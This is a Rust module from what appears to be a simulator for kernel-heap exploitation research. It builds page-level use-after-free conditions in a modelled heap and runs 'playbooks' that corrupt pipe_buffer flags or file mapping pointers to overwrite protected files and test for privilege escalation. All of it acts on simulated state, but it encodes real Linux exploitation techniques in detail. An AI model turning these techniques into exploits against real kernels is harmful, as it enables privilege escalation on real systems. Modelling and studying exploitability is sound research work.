//! Page-level UAF construction (two routes) and the shipped exploit
//! playbooks that corrupt verified targets through the dangling page.

use rand::SeedableRng;
use rand_chacha::ChaCha8Rng;

use crate::dynverify::{
    addr_to_page, check_escalation, page_addr, snapshot, ArgValue, EscalationVerdict, ObjId,
    Session,
};
use crate::ir::{Ty, TypedCorpus};

use super::capability::{corrupt, BugKind, CapabilityDescriptor, ValueModel, WriteSpec};
use super::{Handle, HeapWorld, PageId, PageState, SimError};

/// A dangling page reference: `bridge` still resolves to `page` although the
/// page has been returned to the buddy allocator.
#[derive(Debug, Clone, Copy)]
pub struct PageUafHandle {
    pub bridge: Handle,
    /// The second bridge that was corrupted and closed, kept for tests.
    pub corrupted: Handle,
    pub page: PageId,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Route {
    /// OOB/UAF low-bit corruption of one bridge's page pointer.
    A,
    /// Double free plus pause/resume overlap write.
    B,
}

/// First page-reference field of a record, with its offset.
fn page_field(tc: &TypedCorpus, record: &str) -> Option<(String, u64)> {
    let rec = tc.corpus.record(record)?;
    let layout = tc.layout(record)?;
    for (fname, fty) in &rec.fields {
        if matches!(fty, Ty::PageRef) {
            return Some((fname.clone(), layout.offset_of(fname)?));
        }
    }
    None
}

/// Allocate a user page whose id is a multiple of four, discarding
/// unaligned ones (they stay allocated as junk user content). Low-byte
/// zeroing of a neighbour's page-object address then lands exactly here.
fn alloc_aligned_user_page(world: &mut HeapWorld, owner: Handle) -> Result<PageId, SimError> {
    for _ in 0..64 {
        let p = world.alloc_user_page(owner)?;
        if p % 4 == 0 {
            return Ok(p);
        }
    }
    Err(SimError::NoPlacement)
}

/// Interfering traffic hook, called between exploit stages.
pub trait NoiseHook {
    fn interfere(&mut self, world: &mut HeapWorld);
}

pub struct NoNoise;

impl NoiseHook for NoNoise {
    fn interfere(&mut self, _world: &mut HeapWorld) {}
}

/// Build a page-level UAF through bridge objects co-located with the
/// vulnerable object.
///
/// Route A sprays two bridges next to the vulnerable object, corrupts the
/// low bits of one bridge's page pointer so both reference one page object,
/// then frees the page through the corrupted bridge. Route B (double free
/// with a pause/resume write cursor) overlaps a value-carrying filler with a
/// bridge sprayed into the twice-freed slot and lets the resumed write
/// clobber the pointer's low byte. Capabilities that cannot express a
/// low-bit corruption need a leaked page-object address (`allow_leak`).
pub fn build_page_uaf(
    world: &mut HeapWorld,
    tc: &TypedCorpus,
    cap: &CapabilityDescriptor,
    bridge_record: &str,
    vuln: Handle,
    allow_leak: bool,
    rng: &mut ChaCha8Rng,
    noise: &mut dyn NoiseHook,
) -> Result<PageUafHandle, SimError> {
    let (field, field_off) =
        page_field(tc, bridge_record).ok_or_else(|| SimError::Config(format!(
            "`{bridge_record}` has no page-reference field"
        )))?;
    match (cap.bug, cap.pause_resume) {
        (BugKind::DoubleFree, true) => {
            route_b(world, tc, cap, bridge_record, &field, field_off, vuln, noise)
        }
        (BugKind::DoubleFree, false) => Err(SimError::Config(
            "double-free route needs a pause/resume write cursor".to_string(),
        )),
        _ => route_a(
            world, tc, cap, bridge_record, &field, field_off, vuln, allow_leak, rng, noise,
        ),
    }
}

#[allow(clippy::too_many_arguments)]
fn route_a(
    world: &mut HeapWorld,
    tc: &TypedCorpus,
    cap: &CapabilityDescriptor,
    bridge_record: &str,
    field: &str,
    field_off: u64,
    vuln: Handle,
    allow_leak: bool,
    rng: &mut ChaCha8Rng,
    noise: &mut dyn NoiseHook,
) -> Result<PageUafHandle, SimError> {
    let vuln_obj = world
        .objects
        .get(&vuln)
        .ok_or_else(|| SimError::Config("vulnerable object missing".into()))?
        .clone();
    let object_size = world
        .caches
        .get(&cap.vuln_cache)
        .map(|c| c.object_size as u64)
        .ok_or_else(|| SimError::UnknownCache(cap.vuln_cache.clone()))?;

    if cap.bug == BugKind::Uaf {
        world.free_object(vuln)?;
    }

    // spray bridges next to (or into) the vulnerable slot
    let sprayed = world.spray(tc, bridge_record, &cap.vuln_cache, 2)?;
    // find a sprayed bridge whose page field the capability can reach
    let mut reach = None;
    for h in &sprayed {
        let o = &world.objects[h];
        if o.page != vuln_obj.page {
            continue;
        }
        let rel = o.slot_offset as i64 - vuln_obj.slot_offset as i64 + field_off as i64;
        if rel >= 0 && cap.offset_ok(rel as u64) {
            reach = Some((*h, rel as u64));
            break;
        }
    }
    let (b_corrupt, rel_off) = reach.ok_or(SimError::NoPlacement)?;
    let b_holder = *sprayed
        .iter()
        .find(|h| **h != b_corrupt)
        .ok_or(SimError::NoPlacement)?;
    let _ = object_size;

    noise.interfere(world);

    // contiguous page pair: p0 aligned, p1 = p0 + 1
    let p0 = alloc_aligned_user_page(world, b_holder)?;
    let p1 = world.alloc_user_page(b_corrupt)?;
    if p1 != p0 + 1 {
        return Err(SimError::NoPlacement);
    }

    // the corruption moves b_corrupt's pointer onto the holder's page (or,
    // for a single set bit, the other way around)
    let spec = match &cap.value_model {
        ValueModel::BitSet => {
            // corrupted bridge holds the even page; setting bit 6 of the
            // pointer's low byte lands on the odd neighbour
            world.write_field_word(tc, b_corrupt, field, page_addr(p0));
            world.write_field_word(tc, b_holder, field, page_addr(p1));
            WriteSpec::SetBit { offset: rel_off, bit: 6 }
        }
        ValueModel::LowBytesZero { .. } => {
            world.write_field_word(tc, b_corrupt, field, page_addr(p1));
            world.write_field_word(tc, b_holder, field, page_addr(p0));
            WriteSpec::ZeroLow { offset: rel_off, count: 1 }
        }
        ValueModel::Controlled if cap.min_len() == 1 && !allow_leak => {
            world.write_field_word(tc, b_corrupt, field, page_addr(p1));
            world.write_field_word(tc, b_holder, field, page_addr(p0));
            WriteSpec::Bytes { offset: rel_off, bytes: vec![0u8] }
        }
        ValueModel::Controlled | ValueModel::ControlledWithJunkSuffix { .. } => {
            if !allow_leak {
                return Err(SimError::InfoleakRequired);
            }
            world.write_field_word(tc, b_corrupt, field, page_addr(p1));
            world.write_field_word(tc, b_holder, field, page_addr(p0));
            // leaked pointer: replace as many low bytes as the capability
            // permits (at least four reach the varying bits here)
            let len = cap.length_range.1.min(8).max(cap.min_len()) as usize;
            let bytes = page_addr(p0).to_le_bytes()[..len].to_vec();
            WriteSpec::Bytes { offset: rel_off, bytes }
        }
        ValueModel::Constant { .. } => return Err(SimError::InfoleakRequired),
    };
    corrupt(world, cap, vuln, &spec, rng)?;

    // both pointers must now resolve to one page object
    let w_corrupt = world
        .read_field_word(tc, b_corrupt, field)
        .and_then(addr_to_page)
        .ok_or(SimError::Retry)?;
    let w_holder = world
        .read_field_word(tc, b_holder, field)
        .and_then(addr_to_page)
        .ok_or(SimError::Retry)?;
    if w_corrupt != w_holder {
        return Err(SimError::Retry);
    }

    noise.interfere(world);

    // close the corrupted bridge: frees the shared physical page
    world.free_page(w_corrupt);
    world.free_object(b_corrupt)?;
    Ok(PageUafHandle {
        bridge: b_holder,
        corrupted: b_corrupt,
        page: w_corrupt,
    })
}

#[allow(clippy::too_many_arguments)]
fn route_b(
    world: &mut HeapWorld,
    tc: &TypedCorpus,
    cap: &CapabilityDescriptor,
    bridge_record: &str,
    field: &str,
    field_off: u64,
    vuln: Handle,
    noise: &mut dyn NoiseHook,
) -> Result<PageUafHandle, SimError> {
    if !matches!(
        cap.value_model,
        ValueModel::Controlled | ValueModel::LowBytesZero { .. }
    ) {
        return Err(SimError::InfoleakRequired);
    }
    // a holder bridge with an aligned page, sprayed ahead of time
    let b_holder = world.alloc_object(tc, bridge_record, &cap.vuln_cache)?;
    let p0 = alloc_aligned_user_page(world, b_holder)?;
    world.write_field_word(tc, b_holder, field, page_addr(p0));

    // first free
    world.free_object(vuln)?;
    // harmless value-carrying filler takes the slot; its write pauses at
    // the cursor right before the planned page-pointer offset
    let filler = world.alloc_object(tc, "kiocb", &cap.vuln_cache)?;
    {
        let fo = &world.objects[&filler];
        let (page, slot) = (fo.page, fo.slot_offset);
        let bytes = &mut world.pages[page as usize].bytes;
        for i in 0..field_off as usize {
            bytes[slot + i] = 0x41;
        }
    }
    noise.interfere(world);

    // second free re-frees the same slot
    corrupt(
        world,
        cap,
        vuln,
        &WriteSpec::DoubleFree,
        &mut ChaCha8Rng::seed_from_u64(0),
    )?;
    // the planned bridge takes the slot, overlapping the filler
    let b2 = world.alloc_object(tc, bridge_record, &cap.vuln_cache)?;
    // its page must sit in the aligned page's window so a zeroed low byte
    // aligns down onto p0
    let mut p2 = world.alloc_user_page(b2)?;
    let mut guard = 0;
    while !(p2 > p0 && p2 < p0 + 4) {
        p2 = world.alloc_user_page(b2)?;
        guard += 1;
        if guard > 64 {
            return Err(SimError::NoPlacement);
        }
    }
    world.write_field_word(tc, b2, field, page_addr(p2));

    noise.interfere(world);

    // resume the filler write: one more attacker byte (zero) lands on the
    // bridge's page pointer low byte
    {
        let fo = &world.objects[&b2];
        let (page, slot) = (fo.page, fo.slot_offset);
        let bytes = &mut world.pages[page as usize].bytes;
        bytes[slot + field_off as usize] = 0;
    }

    let now = world
        .read_field_word(tc, b2, field)
        .and_then(addr_to_page)
        .ok_or(SimError::Retry)?;
    if now != p0 {
        return Err(SimError::Retry);
    }
    // free the shared page through the clobbered bridge
    world.free_page(p0);
    world.free_object(b2)?;
    Ok(PageUafHandle {
        bridge: b_holder,
        corrupted: b2,
        page: p0,
    })
}

/// Scan the dangling page for a sprayed slot whose page-reference field
/// resolves to the wanted file's cache page; returns (handle, slot offset).
fn feedback_find_slot(
    world: &HeapWorld,
    tc: &TypedCorpus,
    dangling: &PageUafHandle,
    record: &str,
    cache: &str,
    want_path: &str,
) -> Option<(Handle, usize)> {
    let layout = tc.layout(record)?;
    let (_, field_off) = page_field(tc, record)?;
    let object_size = world.caches.get(cache)?.object_size;
    let bytes = world.page_bytes_raw(dangling.page)?;
    let slots = bytes.len() / object_size;
    let _ = layout;
    for s in 0..slots {
        let off = s * object_size + field_off as usize;
        if off + 8 > bytes.len() {
            break;
        }
        let mut w = [0u8; 8];
        w.copy_from_slice(&bytes[off..off + 8]);
        let addr = u64::from_le_bytes(w);
        let Some(pid) = addr_to_page(addr) else { continue };
        let Some(page) = world.pages.get(pid as usize) else { continue };
        if !matches!(&page.state, PageState::FileCache { path } if path == want_path) {
            continue;
        }
        // map the slot back to the sprayed object handle
        let handle = world
            .objects
            .iter()
            .find(|(_, o)| o.live && o.page == dangling.page && o.slot_offset == s * object_size)
            .map(|(h, _)| *h)?;
        return Some((handle, s * object_size));
    }
    None
}

/// Flag playbook: splice victim pipe buffers to a protected file, reclaim
/// the dangling page as their slab, locate a victim slot through the
/// feedback read, set its flag field to the verified target value through
/// the dangling write, then trigger the merge write.
#[allow(clippy::too_many_arguments)]
pub fn exploit_flag_playbook(
    world: &mut HeapWorld,
    tc: &TypedCorpus,
    sess: &mut Session,
    dangling: &PageUafHandle,
    victim_path: &str,
    cache: &str,
    target_value: u64,
    payload: &str,
    noise: &mut dyn NoiseHook,
) -> Result<EscalationVerdict, SimError> {
    let before = snapshot(&sess.world, Some(world));

    // exhaust-then-spray: all existing slots consumed first
    world.exhaust_cache(tc, cache)?;
    noise.interfere(world);
    let victims = world.spray(tc, "pipe_buffer", cache, 8)?;
    for v in &victims {
        sess.run(
            tc,
            Some(world),
            "scn_splice_attach",
            &[ArgValue::Str(victim_path.to_string()), ArgValue::Bound(ObjId::Heap(*v))],
            &[],
            b"",
        )
        .map_err(|e| SimError::Interp(e.to_string()))?;
    }

    // reclamation only succeeds inside the page's migrate group
    match &world.pages[dangling.page as usize].state {
        PageState::Slab { cache: c } if c == cache => {}
        PageState::Free => return Err(SimError::MitigationBlocked),
        _ => return Err(SimError::Retry),
    }

    let (victim, slot) = feedback_find_slot(world, tc, dangling, "pipe_buffer", cache, victim_path)
        .ok_or(SimError::Retry)?;

    // dangling write: flip the victim's flag field
    let flags_off = tc
        .layout("pipe_buffer")
        .and_then(|l| l.offset_of("flags"))
        .unwrap_or(16) as usize;
    {
        let bytes = world
            .page_bytes_raw_mut(dangling.page)
            .ok_or(SimError::Retry)?;
        bytes[slot + flags_off..slot + flags_off + 4]
            .copy_from_slice(&(target_value as u32).to_le_bytes());
    }

    // trigger the merge write through the corrupted victim buffer
    sess.run(
        tc,
        Some(world),
        "scn_pipe_flush",
        &[ArgValue::Bound(ObjId::Heap(victim)), ArgValue::Str(payload.to_string())],
        &[],
        b"",
    )
    .map_err(|e| SimError::Interp(e.to_string()))?;

    let after = snapshot(&sess.world, Some(world));
    Ok(check_escalation(&before, &after, sess.world.actor_uid))
}

/// Reference playbook: spray protected-file and attacker-file objects into
/// the dangling page, read the victim's page-cache pointer through the
/// dangling page, write it into the attacker file's pointer, then write
/// through the attacker file.
#[allow(clippy::too_many_arguments)]
pub fn exploit_ref_playbook(
    world: &mut HeapWorld,
    tc: &TypedCorpus,
    sess: &mut Session,
    dangling: &PageUafHandle,
    victim_path: &str,
    attacker_path: &str,
    payload: &str,
    noise: &mut dyn NoiseHook,
) -> Result<EscalationVerdict, SimError> {
    let before = snapshot(&sess.world, Some(world));
    let cache_v = world.file_cache_for(&sess.world, victim_path);
    let cache_a = world.file_cache_for(&sess.world, attacker_path);

    world.exhaust_cache(tc, &cache_v)?;
    if cache_a != cache_v {
        world.exhaust_cache(tc, &cache_a)?;
    }
    noise.interfere(world);

    let victims = world.spray(tc, "file", &cache_v, 6)?;
    for v in &victims {
        sess.run(
            tc,
            Some(world),
            "scn_file_open_at",
            &[
                ArgValue::Str(victim_path.to_string()),
                ArgValue::Bound(ObjId::Heap(*v)),
                ArgValue::Int(4),
            ],
            &[],
            b"",
        )
        .map_err(|e| SimError::Interp(e.to_string()))?;
    }
    let attackers = world.spray(tc, "file", &cache_a, 4)?;
    for a in &attackers {
        sess.run(
            tc,
            Some(world),
            "scn_file_open_at",
            &[
                ArgValue::Str(attacker_path.to_string()),
                ArgValue::Bound(ObjId::Heap(*a)),
                ArgValue::Int(6),
            ],
            &[],
            b"",
        )
        .map_err(|e| SimError::Interp(e.to_string()))?;
    }

    match &world.pages[dangling.page as usize].state {
        PageState::Slab { cache: c } if *c == cache_v => {}
        PageState::Free => return Err(SimError::MitigationBlocked),
        _ => return Err(SimError::Retry),
    }

    let (_, victim_slot) =
        feedback_find_slot(world, tc, dangling, "file", &cache_v, victim_path)
            .ok_or(SimError::Retry)?;
    let (attacker_obj, attacker_slot) =
        feedback_find_slot(world, tc, dangling, "file", &cache_a, attacker_path)
            .ok_or(SimError::Retry)?;

    let map_off = tc
        .layout("file")
        .and_then(|l| l.offset_of("f_mapping"))
        .unwrap_or(16) as usize;
    let victim_addr = {
        let bytes = world.page_bytes_raw(dangling.page).ok_or(SimError::Retry)?;
        let mut w = [0u8; 8];
        w.copy_from_slice(&bytes[victim_slot + map_off..victim_slot + map_off + 8]);
        u64::from_le_bytes(w)
    };
    {
        let bytes = world
            .page_bytes_raw_mut(dangling.page)
            .ok_or(SimError::Retry)?;
        bytes[attacker_slot + map_off..attacker_slot + map_off + 8]
            .copy_from_slice(&victim_addr.to_le_bytes());
    }

    sess.run(
        tc,
        Some(world),
        "scn_file_write",
        &[
            ArgValue::Bound(ObjId::Heap(attacker_obj)),
            ArgValue::Str(attacker_path.to_string()),
            ArgValue::Str(payload.to_string()),
        ],
        &[],
        b"",
    )
    .map_err(|e| SimError::Interp(e.to_string()))?;

    let after = snapshot(&sess.world, Some(world));
    Ok(check_escalation(&before, &after, sess.world.actor_uid))
}
